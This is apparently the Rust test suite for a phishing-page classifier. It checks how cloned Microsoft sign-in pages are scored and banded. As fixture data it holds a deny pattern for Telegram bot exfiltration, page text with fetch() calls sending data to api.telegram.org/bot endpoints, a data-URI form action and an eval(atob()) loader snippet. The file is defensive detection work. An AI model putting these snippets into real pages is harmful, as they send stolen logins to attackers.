mod common;

use common::*;
use phishcheck::{Band, ReasonCode, StaticSignals};
use serde_json::json;

// ─── Provider's own login page ──────────────────────────────────────────────

#[test]
fn provider_login_host_is_legitimate() {
    let rules = fixture_rules();
    let page = StaticSignals::new(
        "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=abc",
    )
    .with_title("Sign in to your account")
    .with_selector("input[name='loginfmt']");

    let verdict = rules.evaluate(&page);
    assert_eq!(verdict.band, Band::Legitimate);
    assert!(verdict.score >= rules.thresholds().legitimate as f64);
    assert_eq!(verdict.reason_codes, vec![ReasonCode::KnownProviderDomain]);
    assert_eq!(verdict.indicators_evaluated, 0);
    assert_eq!(
        verdict.exclusion.as_ref().map(|e| e.pattern.as_str()),
        Some("*.microsoftonline.com")
    );
}

// ─── Score bands ────────────────────────────────────────────────────────────

#[test]
fn weight_sums_map_to_bands() {
    let cases: [(&[f64], Band); 4] = [
        (&[60.0], Band::Suspicious),
        (&[50.0, 40.0], Band::Legitimate),
        (&[10.0], Band::Phishing),
        (&[70.0, -15.0], Band::Suspicious),
    ];
    for (weights, expected) in cases {
        let rules = load_value(&weighted_doc(weights));
        let verdict = rules.evaluate(&login_page(weights.len()));
        assert_eq!(
            verdict.band, expected,
            "weights {:?} gave score {}",
            weights, verdict.score
        );
        assert_eq!(verdict.score, weights.iter().sum::<f64>());
        assert!(verdict.reason_codes.contains(&ReasonCode::LoginSurfaceDetected));
    }
}

#[test]
fn score_is_clamped() {
    let rules = load_value(&weighted_doc(&[80.0, 80.0]));
    let verdict = rules.evaluate(&login_page(2));
    assert_eq!(verdict.score, 100.0);
    assert_eq!(verdict.band, Band::Legitimate);

    let rules = load_value(&weighted_doc(&[-80.0]));
    let verdict = rules.evaluate(&login_page(1));
    assert_eq!(verdict.score, 0.0);
    assert_eq!(verdict.band, Band::Phishing);
}

#[test]
fn unmatched_indicators_add_nothing() {
    let rules = load_value(&weighted_doc(&[60.0, 40.0]));
    // Only marker0x is present.
    let verdict = rules.evaluate(&login_page(1));
    assert_eq!(verdict.score, 60.0);
    assert_eq!(verdict.matched_rule_ids, vec!["ind_0"]);
    assert_eq!(verdict.indicators_evaluated, 2);
}

// ─── Fingerprint gate ───────────────────────────────────────────────────────

#[test]
fn weak_secondary_evidence_is_not_a_login_surface() {
    let rules = fixture_rules();
    let page = StaticSignals::new("https://news.example.org/how-to-sign-in")
        .with_title("Sign in to your account")
        .with_selector("input[type='password']")
        .with_page_text("Microsoft says: stay signed in. Your account will be suspended!");

    let verdict = rules.evaluate(&page);
    assert_eq!(verdict.band, Band::Legitimate);
    assert_eq!(
        verdict.reason_codes,
        vec![ReasonCode::NotIdentityProviderSurface]
    );
    assert_eq!(verdict.indicators_evaluated, 0);
    assert!(verdict.matched_rule_ids.is_empty());

    let fp = verdict.fingerprint.expect("fingerprint reported");
    assert!(!fp.is_login_surface);
    assert_eq!(fp.matched_primary, 0);
    assert_eq!(fp.tally.secondary_weight, 5.0);
}

// ─── Blocking and allow overrides ───────────────────────────────────────────

#[test]
fn critical_block_overrides_legitimate_score() {
    let mut doc = weighted_doc(&[95.0]);
    doc["blocking_rules"] = json!([{
        "id": "bl_exfil",
        "pattern": "api\\.telegram\\.org/bot",
        "action": "block",
        "severity": "critical"
    }]);
    let rules = load_value(&doc);

    let clean = login_page(1);
    assert_eq!(rules.evaluate(&clean).band, Band::Legitimate);

    let exfil = clean
        .clone()
        .with_page_text("marker0x fetch('https://api.telegram.org/bot123/sendMessage')");
    let verdict = rules.evaluate(&exfil);
    assert_eq!(verdict.band, Band::Phishing);
    assert_eq!(verdict.score, 95.0);
    assert!(verdict.reason_codes.contains(&ReasonCode::CriticalBlockingRule));
    assert!(verdict.matched_rule_ids.contains(&"bl_exfil".to_string()));
}

#[test]
fn critical_block_beats_allow_rule() {
    let rules = fixture_rules();
    let page = StaticSignals::new("https://sso.contoso.com/adfs/ls/")
        .with_selector("input[name='loginfmt']")
        .with_page_text(
            "aadcdn.msftauth.net $Config={} <script>fetch('https://api.telegram.org/bot42/send')</script>",
        );
    let verdict = rules.evaluate(&page);
    assert_eq!(verdict.band, Band::Phishing);
    assert!(verdict.reason_codes.contains(&ReasonCode::CriticalBlockingRule));
    assert!(verdict.matched_rule_ids.contains(&"allow_contoso_sso".to_string()));
}

#[test]
fn allow_rule_forces_legitimate() {
    let rules = fixture_rules();
    let mut page = phishing_clone();
    page.url = "https://sso.contoso.com/adfs/ls/?wa=wsignin1.0".to_string();

    let verdict = rules.evaluate(&page);
    assert_eq!(verdict.band, Band::Legitimate);
    assert!(verdict.reason_codes.contains(&ReasonCode::AllowRule));
    assert_eq!(verdict.score, 0.0);
    assert!(verdict.matched_rule_ids.contains(&"allow_contoso_sso".to_string()));
    assert!(verdict.matched_rule_ids.contains(&"phi_001_php_form_action".to_string()));
}

#[test]
fn non_critical_blocking_rule_adds_weight() {
    let rules = fixture_rules();
    let page = StaticSignals::new("https://login.example-tenant.net/")
        .with_selector("input[name='loginfmt']")
        .with_resource("https://aadcdn.msftauth.net/ests/2.1/content/cdnbundles/converged.v2.login.min.css")
        .with_page_text(
            r#"aadcdn.msftauth.net $Config={} <form action="data:text/html;base64,AAAA">"#,
        );
    let verdict = rules.evaluate(&page);
    assert_eq!(verdict.score, 30.0);
    assert_eq!(verdict.band, Band::Phishing);
    assert_eq!(
        verdict.matched_rule_ids,
        vec!["lp_msft_cdn_assets", "bl_data_uri_form"]
    );
}

// ─── Full pages against the fixture ─────────────────────────────────────────

#[test]
fn phishing_clone_is_phishing() {
    let rules = fixture_rules();
    let verdict = rules.evaluate(&phishing_clone());

    assert_eq!(verdict.band, Band::Phishing);
    assert_eq!(verdict.score, 0.0);
    assert_eq!(
        verdict.reason_codes,
        vec![ReasonCode::LoginSurfaceDetected, ReasonCode::ScorePhishing]
    );
    assert_eq!(
        verdict.matched_rule_ids,
        vec![
            "phi_001_php_form_action",
            "phi_002_account_urgency",
            "lp_msft_cdn_assets",
            "dr_low_score_password_prompt",
        ]
    );
    assert_eq!(verdict.indicators_evaluated, 10);
    assert_eq!(verdict.rules_version, "2025.10.01");

    let fp = verdict.fingerprint.expect("fingerprint reported");
    assert!(fp.is_login_surface);
    assert_eq!(fp.matched_primary, 3);
    assert_eq!(fp.tally.primary_weight, 8.0);
    assert_eq!(
        fp.matched_element_ids,
        vec![
            "msft_cdn_reference",
            "loginfmt_input",
            "ests_config",
            "sign_in_title",
            "password_input",
            "microsoft_branding",
        ]
    );
}

#[test]
fn branded_page_with_genuine_assets_is_suspicious() {
    let rules = fixture_rules();
    let page = StaticSignals::new("https://login.contoso-partner.net/")
        .with_title("Sign in to your account")
        .with_selector("input[name='loginfmt']")
        .with_resource("https://aadcdn.msftauth.net/shared/1.0/content/js/ConvergedLogin.js")
        .with_referrer("https://www.office.com/")
        .with_page_text("aadcdn.msftauth.net var $Config={};");

    let verdict = rules.evaluate(&page);
    assert_eq!(verdict.score, 70.0);
    assert_eq!(verdict.band, Band::Suspicious);
    assert_eq!(
        verdict.matched_rule_ids,
        vec!["lp_msft_cdn_assets", "dr_referrer_from_office"]
    );
}

#[test]
fn ip_literal_host_counts_against_the_page() {
    let rules = fixture_rules();
    let page = StaticSignals::new("http://203.0.113.7/login")
        .with_selector("input[name='loginfmt']")
        .with_resource("https://aadcdn.msftauth.net/x.js")
        .with_page_text("aadcdn.msftauth.net var $Config={};");
    let verdict = rules.evaluate(&page);
    assert_eq!(verdict.score, 40.0);
    assert!(verdict.matched_rule_ids.contains(&"sb_001_ip_literal_host".to_string()));
}

#[test]
fn indicator_needs_context_and_additional_checks() {
    let rules = fixture_rules();
    let base = StaticSignals::new("https://login.example-tenant.net/")
        .with_selector("input[name='loginfmt']")
        .with_page_text("aadcdn.msftauth.net $Config= atob('x')");
    let verdict = rules.evaluate(&base);
    assert!(!verdict.matched_rule_ids.contains(&"phi_003_obfuscated_loader".to_string()));

    let mut full = base.clone();
    full.page_text = "aadcdn.msftauth.net $Config= eval(atob('x')) password".to_string();
    let verdict = rules.evaluate(&full);
    assert!(verdict.matched_rule_ids.contains(&"phi_003_obfuscated_loader".to_string()));
}

// ─── Determinism and idempotence ────────────────────────────────────────────

#[test]
fn evaluation_is_deterministic() {
    let rules = fixture_rules();
    let page = phishing_clone();
    let first = rules.evaluate(&page);
    for _ in 0..5 {
        assert_eq!(rules.evaluate(&page), first);
    }
}

#[test]
fn activating_the_same_bytes_twice_classifies_identically() {
    let a = fixture_rules();
    let b = fixture_rules();
    let pages = [
        phishing_clone(),
        StaticSignals::new("https://login.microsoftonline.com/"),
        StaticSignals::new("https://news.example.org/").with_page_text("hello"),
    ];
    for page in &pages {
        assert_eq!(a.evaluate(page), b.evaluate(page));
    }
}

#[test]
fn verdict_serializes_with_camel_case_keys() {
    let rules = fixture_rules();
    let verdict = rules.evaluate(&phishing_clone());
    let value = serde_json::to_value(&verdict).unwrap();
    assert_eq!(value["band"], "phishing");
    assert_eq!(value["reasonCodes"][1], "score_phishing");
    assert!(value["matchedRuleIds"].is_array());
    assert_eq!(value["indicatorsEvaluated"], 10);
    assert!(value.get("exclusion").is_none());
}
